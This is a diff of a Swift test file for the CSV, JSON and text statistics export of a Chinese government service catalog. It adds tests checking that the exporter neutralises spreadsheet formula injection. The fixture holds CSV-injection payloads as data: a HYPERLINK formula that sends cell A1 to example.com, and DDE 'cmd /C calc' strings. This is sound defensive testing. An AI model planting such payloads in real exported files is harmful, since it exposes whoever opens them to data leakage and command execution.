@@ -106,7 +106,7 @@ import Testing
         #expect(text.contains("  非必要材料：平均每个事项 0.3 项，最多 1 项，共 2 项\n"))
         #expect(text.contains("  全部材料：平均每个事项 2.0 项，最多 4 项，共 14 项\n"))
         #expect(stats.json().contains("\"conditional\": {\n      \"total\": 1,\n      \"mean\": 0.1429,\n      \"max\": 1\n    }"))
-        #expect(stats.csv().contains("conditional_materials_total,1\r\n"))
+        #expect(stats.csv().contains("\r\nmaterials,conditional,total,1\r\n"))
     }
 
     @Test func internalControlLine() {
@@ -123,7 +123,7 @@ import Testing
         let empty = CatalogStats.compute(Catalog(name: "空目录", region: "440100", standards: []))
         #expect(empty.meanCompression == nil && empty.immediateShare == nil && empty.allMaterials.mean == nil)
         #expect(empty.text().contains("承诺时限较法定时限平均压缩：无可比较的事项"))
-        #expect(empty.csv().contains("compression_mean,\r\n"))
+        #expect(empty.csv().contains("\r\ncompression,,mean,\r\n"))
         #expect(empty.json().contains("\"mean\": null"))
     }
 
@@ -160,13 +160,67 @@ import Testing
               440100-YJS-001 一件事（并联，2 个事项）：材料 9 项合并为 7 项，少交 2 项；逐项办理 7个工作日，一件事承诺 5个工作日，节省 2个工作日
 
             """))
-        #expect(stats.csv().hasSuffix("bundles,1\r\nbundle_materials_saved,2\r\nbundle,440100-YJS-001,一件事,9,7,2\r\n"))
+        #expect(stats.csv().contains("bundles,,materials_saved,2\r\n"))
+        #expect(stats.csv().hasSuffix("bundle,440100-YJS-001,days_saved,2\r\n"))
         #expect(stats.json().contains("\"daysSaved\": 2"))
     }
 
     @Test func csvQuotesPerRFC4180() {
         var catalog = CatalogStatsTests.catalog
-        catalog.name = "目录,含\"逗号\"和引号"
-        #expect(CatalogStats.compute(catalog).csv().hasPrefix("catalog,\"目录,含\"\"逗号\"\"和引号\"\r\n"))
+        catalog.name = "目录,含\"逗号\"和引号\n换行"
+        #expect(CatalogStats.compute(catalog).csv().contains("\r\ncatalog,,name,\"目录,含\"\"逗号\"\"和引号\n换行\"\r\n"))
+    }
+
+    /// A catalog whose text a spreadsheet would run as formulas (OWASP, CSV injection).
+    static let hostile: Catalog = {
+        var catalog = CatalogStatsTests.catalog
+        catalog.name = "=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")"
+        catalog.items[1].name = "+1+cmd|' /C calc'!A0"     // B, over the line
+        catalog.items[6].name = "-2+3"                      // G, over the line
+        catalog.items[0].type = "@SUM(1+1)*cmd|' /C calc'!A0"
+        catalog.items[3].type = "\t=1+1"
+        catalog.items[4].type = "\r=1+1"
+        var bundle = ServiceBundle(code: "=1+1", name: "一件事,\"引号\"", mode: .parallel,
+            stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: .comprehensive,
+            promised: .workingDays(9))
+        bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
+                                       materialsBeforeMerge: 3, materialsAfterMerge: 3)
+        catalog.bundles = [bundle]
+        return catalog
+    }()
+
+    /// Every cell a spreadsheet would take for a formula starts with `'` inside quotes; numbers
+    /// (a negative days saved among them) stay numbers.
+    @Test func csvNeutralisesFormulas() throws {
+        try expectGolden(CatalogStats.compute(Self.hostile).csv(), file: golden("stats-hostile.csv"))
+    }
+
+    /// Python's csv module reads a header and the same number of cells on every row, and gets
+    /// back each catalog text with only the `'` in front.
+    @Test func csvParsesAsOneTable() throws {
+        let file = try makeFolder(.text(["stats.csv": CatalogStats.compute(Self.hostile).csv()])) + "/stats.csv"
+        let r = try runPython(["-c", """
+            import csv, json, sys
+            rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
+            show = lambda x: print(json.dumps(x, ensure_ascii=False))
+            show(rows[0])
+            show(sorted(set(len(r) for r in rows)))
+            for r in rows:
+                for cell in r:
+                    if cell[:1] in ('=', '+', '-', '@', '\\t', '\\r') and not cell.lstrip('-').isdigit():
+                        show(['formula', cell])
+            show([r[3] for r in rows if r[2] == 'name'])
+            show([r[1] for r in rows if r[0] == 'items_by_type'])
+            show([r[3] for r in rows if r[2] == 'days_saved'])
+            """, file])
+        #expect(r.status == 0, "\(r.stderr)")
+        #expect(r.stdout == #"""
+            ["section", "subject", "measure", "value"]
+            [4]
+            ["'=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "一件事,\"引号\""]
+            ["行政许可", "公共服务", "'\t=1+1", "'\r=1+1", "'@SUM(1+1)*cmd|' /C calc'!A0", "行政备案"]
+            ["-2"]
+
+            """#)
     }
 }
